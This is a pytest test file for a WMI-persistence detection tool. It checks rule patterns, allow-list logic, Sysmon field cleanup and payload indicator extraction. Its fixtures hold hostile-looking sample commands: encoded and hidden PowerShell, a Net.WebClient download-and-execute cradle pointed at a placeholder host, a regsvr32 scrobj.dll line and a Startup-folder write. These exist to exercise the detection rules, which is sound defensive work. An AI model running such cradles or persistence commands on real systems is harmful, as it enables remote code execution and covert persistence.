"""The persistence rule table, the allow-list and the child-process table are data with reasons and public
sources; every rule can fire; indicators come out of real payload shapes; Sysmon's MOF quoting is undone."""

from __future__ import annotations

import base64

import pytest

from wmidoctor.artifacts.evtx.normalise import clean_sysmon_wmi, mof_unquote
from wmidoctor.checks.security_indicators import extract
from wmidoctor.knowledge.persistence import (
    MALICIOUS,
    SUSPICIOUS,
    UNREMARKABLE,
    allow_list,
    allowed,
    assess,
    child_kind,
    rules,
)
from wmidoctor.logs.traces import mof_instances

# one text per rule that must make it fire (hand-made: the rules' own mechanics)
FIRES = {
    "consumer-active-script": "ActiveScriptEventConsumer",
    "consumer-command-line": "CommandLineEventConsumer",
    "payload-shell": "cmd.exe /c whoami",
    "payload-script-host": "wscript.exe //B C:\\x.vbs",
    "payload-encoded": "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "payload-hidden-window": "powershell -WindowStyle Hidden -c 1",
    "payload-download": "(New-Object Net.WebClient).DownloadString('x')",
    "payload-lolbin": "regsvr32 /s /u /i:x scrobj.dll",
    "payload-url": "http://example.invalid/a",
    "payload-ip": "connect 127.0.0.2",
    "payload-startup-write": 'copy x "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.lnk"',
    "payload-terminate": "oProcess.Terminate()",
    "payload-user-dir": "C:\\Users\\Public\\x.exe",
    "filter-process-start": "SELECT * FROM Win32_ProcessStartTrace",
    "filter-uptime": "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
    "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 200",
    "filter-logon": "SELECT * FROM __InstanceCreationEvent WITHIN 15 WHERE TargetInstance ISA 'Win32_LogonSession'",
    "filter-timer": "SELECT * FROM __TimerEvent WHERE TimerID = 'x'",
    "timer-short": "__IntervalTimerInstruction beacon every 5000 ms",
    "namespace-unusual": "root\\cimv2",
    "creator-user": "S-1-5-21-1-2-3-1001",
    "ran": "cmd.exe",
}


def test_every_rule_has_a_reason_a_source_and_a_technique():
    for rule in rules():
        assert rule.reason and rule.source.startswith("https://"), rule.id
        assert rule.technique.startswith("T1") and rule.score > 0
    for row in allow_list():
        assert row.reason and row.source.startswith("https://") and row.product
    assert set(FIRES) == {r.id for r in rules()}


@pytest.mark.parametrize("rule", rules(), ids=lambda r: r.id)
def test_every_rule_can_fire(rule):
    text = FIRES[rule.id]
    assert rule.pattern.search(text), rule.id


def test_the_default_namespaces_and_system_creators_add_nothing():
    quiet = assess({"namespace": "ROOT\\subscription", "creator": "S-1-5-32-544"})
    assert quiet.verdict == UNREMARKABLE and quiet.score == 0
    assert assess({"namespace": "root\\DEFAULT", "creator": "S-1-5-18"}).score == 0
    assert assess({"creator": "NT AUTHORITY\\SYSTEM"}).score == 0  # Sysmon names the account, not the SID
    assert assess({"creator": "CONTOSO\\alice"}).score == 10


def test_a_plain_command_line_consumer_is_suspicious_and_an_armed_one_malicious():
    assert (
        assess({"consumer_class": "CommandLineEventConsumer", "payload": "C:\\Vendor\\agent.exe"}).verdict == SUSPICIOUS
    )
    armed = assess(
        {
            "consumer_class": "CommandLineEventConsumer",
            "payload": "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
        }
    )
    assert armed.verdict == MALICIOUS and {"T1546.003", "T1027"} <= set(armed.techniques)


def test_the_allow_list_needs_the_exact_subscription_not_just_its_name():
    assert allowed(
        "ROOT\\subscription",
        "NTEventLogEventConsumer",
        "SCM Event Log Consumer",
        "SCM Event Log Filter",
        "S-1-5-32-544",
        "",
    )
    # the same name with another class, creator or payload is not the Windows default
    assert not allowed(
        "ROOT\\subscription",
        "CommandLineEventConsumer",
        "SCM Event Log Consumer",
        "SCM Event Log Filter",
        "S-1-5-32-544",
        "cmd.exe",
    )
    assert not allowed(
        "ROOT\\subscription",
        "NTEventLogEventConsumer",
        "SCM Event Log Consumer",
        "SCM Event Log Filter",
        "S-1-5-21-1-2-3-1001",
        "",
    )
    assert not allowed(
        "ROOT\\subscription",
        "CommandLineEventConsumer",
        "BVTConsumer",
        "BVTFilter",
        "S-1-5-32-544",
        "powershell -enc AAAA",
    )


def test_children_of_the_provider_host_are_classified():
    assert child_kind("CMD.EXE").kind == "shell" and child_kind("mshta.exe").kind == "script-host"
    assert child_kind("werfault.exe").kind == "management" and child_kind("GruntHTTP2.exe") is None


def test_indicators_decode_encoded_powershell_and_name_hosts():
    inner = "IEX (New-Object Net.WebClient).DownloadString('http://updates.example.invalid:8080/a.ps1')"
    command = "powershell -nop -enc " + base64.b64encode(inner.encode("utf-16-le")).decode()
    found = extract(command)
    assert found["decoded"] == [inner]
    assert found["urls"] == ["http://updates.example.invalid:8080/a.ps1"]
    assert found["hosts"] == ["updates.example.invalid"]
    assert extract("6.1.7600.16385 and 999.1.1.1") == {}  # versions and impossible addresses are not IPs


def test_sysmon_wmi_values_lose_their_mof_quoting():
    fields = {
        "Name": ' "BotFilter82"',
        "EventNamespace": ' "root\\\\cimv2"',
        "Consumer": ' "CommandLineEventConsumer.Name=\\"BotConsumer23\\""',
        "User": "IEWIN7\\IEUser",
    }
    clean = clean_sysmon_wmi("Microsoft-Windows-Sysmon", 21, dict(fields))
    assert clean == {
        "Name": "BotFilter82",
        "EventNamespace": "root\\cimv2",
        "Consumer": 'CommandLineEventConsumer.Name="BotConsumer23"',
        "User": "IEWIN7\\IEUser",
    }
    assert clean_sysmon_wmi("Microsoft-Windows-Sysmon", 21, dict(clean)) == clean  # idempotent
    assert clean_sysmon_wmi("Microsoft-Windows-Sysmon", 1, dict(fields)) == fields  # other events untouched
    assert mof_unquote('"a\\nb"') == "a\nb"


def test_the_mof_of_a_5861_record_reads_back():
    text = (
        "Binding EventFilter: \ninstance of __EventFilter\n{\n\tCreatorSID = {1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, "
        '0, 32, 2, 0, 0};\n\tName = "F";\n\tQuery = "select * from X where a = \\"b\\"";\n};\nPerm. Consumer: \n'
        'instance of CommandLineEventConsumer\n{\n\tCommandLineTemplate = "c:\\\\a b.exe";\n\tName = "C";\n};\n'
    )
    (filter_class, filter_values), (consumer_class, consumer_values) = mof_instances(text)
    assert filter_class == "__EventFilter" and filter_values["CreatorSID"] == "S-1-5-32-544"
    assert filter_values["Query"] == 'select * from X where a = "b"'
    assert consumer_class == "CommandLineEventConsumer" and consumer_values["CommandLineTemplate"] == "c:\\a b.exe"
